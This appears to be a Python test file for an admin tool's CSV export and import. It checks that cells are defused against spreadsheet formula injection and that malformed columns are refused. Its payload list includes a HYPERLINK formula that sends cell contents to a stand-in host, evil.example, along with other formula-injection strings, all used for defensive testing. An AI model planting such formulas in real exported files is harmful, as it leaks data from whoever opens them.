"""Every CSV the admin writes (lists and the export) is defused against spreadsheet formulas, and an
import of a CSV reads it back as it was written."""

from __future__ import annotations

import csv
import io

import pytest

from zato_outconn import ConfigError
from zato_outconn.admin.tabular import cell, cell_text, document_from_csv

from tests.admin.conftest import API, problem_of

FORMULAE = ['=HYPERLINK("http://evil.example/?"&A1)', '+1+cmd', '-2+3', '@SUM(1)', '\uff1dA1', "'=quoted", "'plain"]


def _cells(text: str) -> list[str]:
    return [value for row in csv.reader(io.StringIO(text)) for value in row]


@pytest.mark.parametrize('text', [*FORMULAE, 'plain', 'Ünïcode – 東京 🚀', ''])
def test_a_cell_is_never_a_formula_and_reads_back_as_it_was(text: str) -> None:
    written = cell(text)
    assert not written.startswith(('=', '+', '-', '@', '\t', '\r', '\uff1d'))
    assert cell_text(written) == text


def test_a_list_of_values_is_defused_as_one_cell() -> None:
    assert cell(['=1', '2']) == "'=1,2" and cell(None) == '' and cell(True) == 'true'


def test_the_outconn_and_security_lists_as_csv_are_defused(sqlite_api: API) -> None:
    api = sqlite_api
    for index, name in enumerate(FORMULAE):
        api.outconn(name, url_path=f'/p{index}')
        api.security(name, username=FORMULAE[3])
    for path in ('/api/v1/outconns?format=csv', '/api/v1/security?format=csv'):
        answer = api.get(path)
        assert answer.status_code == 200 and answer.mimetype == 'text/csv', answer.get_data(as_text=True)
        cells = _cells(answer.get_data(as_text=True))
        assert not [value for value in cells if value[:1] in ('=', '+', '-', '@', '\t', '\r', '\uff1d')], cells
        assert f"'{FORMULAE[0]}" in cells and f"'{FORMULAE[3]}" in cells and "''=quoted" in cells and "''plain" in cells
    # Accept: text/csv is the same list as ?format=csv.
    accepted = api.get('/api/v1/outconns', headers={'Accept': 'text/csv'}).get_data(as_text=True)
    assert _cells(accepted) == _cells(api.get('/api/v1/outconns?format=csv').get_data(as_text=True))


HEADER = 'kind,name,host,url_path'


def _outconns(text: str) -> list[dict[str, str]]:
    return list(document_from_csv(text)['outconns'])


def test_a_row_with_more_cells_than_columns_is_refused_naming_the_row() -> None:
    text = f'{HEADER}\r\noutconn,A,http://a.example.com,/a\r\noutconn,B,http://b.example.com,/b,extra,more\r\n'
    with pytest.raises(ConfigError) as refused:
        document_from_csv(text)
    assert refused.value.field == 'file'
    assert refused.value.rule.startswith('row 3 has 2 more cell(s) than the first row names columns (4)')
    # Fewer cells than columns leave the settings past them unset, as before.
    assert _outconns(f'{HEADER}\r\noutconn,A,http://a.example.com\r\n') == [
        {'name': 'A', 'host': 'http://a.example.com'}]


@pytest.mark.parametrize('text', [
    'kind;name;host;retry_on_status\r\noutconn;A;http://a.example.com;"429,503"\r\n',
    'sep=;\r\nkind;name;host;retry_on_status\r\noutconn;A;http://a.example.com;"429,503"\r\n',
    'sep=,\nkind,name,host,retry_on_status\noutconn,A,http://a.example.com,"429,503"\n',
    'kind,name,host,retry_on_status\noutconn,A,http://a.example.com,"429,503"\n',
])
def test_cells_separated_by_semicolons_or_commas_are_read_alike(text: str) -> None:
    assert _outconns(text) == [{'name': 'A', 'host': 'http://a.example.com',
                                'retry_on_status': '429,503'}]


def test_a_semicolon_csv_row_with_cells_past_the_header_names_its_row_after_a_sep_line() -> None:
    with pytest.raises(ConfigError, match=r"^file: row 4 has 1 more cell\(s\).*holds a ';'"):
        document_from_csv('sep=;\nkind;name\noutconn;A\noutconn;B;C\n')


def test_the_api_imports_a_semicolon_csv(sqlite_api: API) -> None:
    data = 'kind;name;host;read_timeout\r\noutconn;CRM;http://crm.example.com;12.5\r\n'
    answer = sqlite_api.post('/api/v1/import', data=data.encode('utf-8-sig'), content_type='text/csv')
    assert answer.status_code == 200, answer.get_data(as_text=True)
    assert sqlite_api.store.get_outconn('plain_http', 'CRM').config.read_timeout == 12.5
    refused = sqlite_api.post('/api/v1/import', data='kind;name\noutconn;A;B\n', content_type='text/csv')
    assert 'row 2' in problem_of(refused, 422)['errors'][0]['message']


@pytest.mark.parametrize(('header', 'says'), [
    ('kind,name,host,pool-size', "has a column 'pool-size', which is no setting"),
    ('kind,name,host,connect_timout', "has a column 'connect_timout', which is no setting"),
    ('kind,name,host,host', "names the column 'host' twice"),
    ('kind,name,sec_type,secret', 'has a secret column; a CSV export holds no secrets'),
])
def test_a_column_that_is_no_setting_or_comes_twice_is_refused_not_dropped(header: str, says: str) -> None:
    """Dropped, a misspelt column's values would be lost without a word (the defaults used instead)."""
    with pytest.raises(ConfigError) as refused:
        document_from_csv(f'{header}\r\noutconn,CRM,http://a.example.com,5\r\n')
    assert refused.value.field == 'file' and says in refused.value.rule


def test_a_csv_import_with_an_unknown_column_writes_nothing(sqlite_api: API) -> None:
    answer = sqlite_api.post('/api/v1/import', data='kind,name,host,pool-size\r\noutconn,CRM,http://a.example.com,5\r\n',
                             content_type='text/csv')
    assert problem_of(answer, 422)['errors'][0]['field'] == 'file'
    assert sqlite_api.get('/api/v1/outconns').get_json()['total'] == 0
